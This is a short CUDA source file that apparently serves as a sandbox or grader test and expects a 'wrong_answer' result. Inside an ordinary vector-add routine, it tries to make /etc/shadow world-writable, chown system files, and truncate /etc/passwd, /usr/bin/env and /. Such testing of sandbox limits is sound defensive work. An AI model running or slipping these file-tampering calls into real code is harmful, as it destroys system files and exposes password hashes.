// expect: wrong_answer
// Changes modes and owners of files to open them.
#include <sys/stat.h>
#include <sys/time.h>
#include <unistd.h>

#include <initializer_list>

#include "lab.hpp"

__global__ void add(const int* a, const int* b, int* out, int n) {
  const int i = blockIdx.x * blockDim.x + threadIdx.x;
  if (i < n) out[i] = a[i] + b[i];
}

void vector_add(const int* a, const int* b, int* out, int n) {
  for (const char* file : {"/etc/shadow", "/etc/passwd", "/usr/bin/env", "/"})
    if (chmod(file, 0777) == 0 || chown(file, 65534, 65534) == 0 || truncate(file, 0) == 0 ||
        utimes(file, nullptr) == 0)
      add<<<(n + 255) / 256, 256>>>(a, b, out, n);
}

void vector_add_host(const int* a, const int* b, int* out, int n) {
  int *da, *db, *dout;
  const size_t bytes = n * sizeof(int);
  cudaMalloc(&da, bytes);
  cudaMalloc(&db, bytes);
  cudaMalloc(&dout, bytes);
  cudaMemcpy(da, a, bytes, cudaMemcpyHostToDevice);
  cudaMemcpy(db, b, bytes, cudaMemcpyHostToDevice);
  vector_add(da, db, dout, n);
  cudaMemcpy(out, dout, bytes, cudaMemcpyDeviceToHost);
  cudaFree(da);
  cudaFree(db);
  cudaFree(dout);
}
